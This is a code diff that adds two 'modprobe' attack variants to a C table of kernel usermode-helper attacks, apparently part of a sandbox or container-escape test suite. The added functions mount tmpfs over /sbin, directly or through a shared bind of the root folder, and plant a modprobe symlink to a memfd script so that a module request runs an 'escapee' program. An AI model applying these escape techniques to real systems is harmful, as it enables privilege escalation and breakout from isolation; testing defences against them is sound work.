@@ -254,6 +254,58 @@ static int run_modprobe_link(void)
 	return err;
 }
 
+/* The folder of the program will be hidden, and with it what its interpreter links to. */
+static const char *prepare_hidden_folder(void)
+{
+	char line[240], folder[200];
+
+	if (!getcwd(folder, sizeof(folder)) || link(ESCAPEE_PROGRAM, "escapee") < 0 ||
+	    mkdir("alias", 0755) < 0)
+		return missing("a link to the program", errno);
+	(void)snprintf(line, sizeof(line), "#!%s/escapee\n", folder);
+	program = memfd_create("helper", 0);
+	if (program < 0 || write(program, line, strlen(line)) < 0 || fchmod(program, 0755) < 0)
+		return missing("a memfd", errno);
+	return NULL;
+}
+
+/* A file system in the place of the folder, and in it the link. */
+static int put_over(const char *folder)
+{
+	char path[60];
+
+	if (mount("none", folder, "tmpfs", 0, NULL) < 0)
+		return errno;
+	(void)snprintf(path, sizeof(path), "%s/modprobe", folder);
+	if (symlink(program_without_path(), path) < 0)
+		return errno;
+	return ask_for_module("attack-mounted");
+}
+
+static int run_modprobe_mounted(void)
+{
+	int err = put_over("/sbin");
+
+	(void)umount2("/sbin", MNT_DETACH);
+	return err;
+}
+
+/* The same without a mount on /sbin: a bind of "/" shares with it what is mounted in either. */
+static int run_modprobe_propagated(void)
+{
+	int err = 0;
+
+	if (mount(NULL, "/", NULL, MS_SHARED, NULL) < 0 ||
+	    mount("/", "alias", NULL, MS_BIND, NULL) < 0)
+		err = errno;
+	if (!err)
+		err = put_over("alias/sbin");
+	(void)umount2("alias/sbin", MNT_DETACH);
+	(void)mount(NULL, "/", NULL, MS_PRIVATE, NULL);
+	(void)umount2("alias", MNT_DETACH);
+	return err;
+}
+
 static int run_request_key(void)
 {
 	int err = write_script(REQUEST_KEY);
@@ -481,6 +533,11 @@ const struct attack helper_attacks[] = {
 	  prepare_memfd_script, run_modprobe_link, WAITS },
 	{ "modprobe-bind", "call_modprobe(): the path, by a bind of a bind", NULL,
 	  run_modprobe_bind, WAITS },
+	{ "modprobe-mounted", "call_modprobe(): a file system is mounted on its folder",
+	  prepare_hidden_folder, run_modprobe_mounted, WAITS | SHARED_MOUNTS },
+	{ "modprobe-propagated",
+	  "call_modprobe(): a file system is mounted on its folder in a bind of the root folder",
+	  prepare_hidden_folder, run_modprobe_propagated, WAITS | SHARED_MOUNTS },
 	{ "request-key", "call_sbin_request_key()", NULL, run_request_key, WAITS },
 	{ "request-key-link", "call_sbin_request_key() of a hard link to a link",
 	  prepare_memfd_script, run_request_key_link, WAITS },
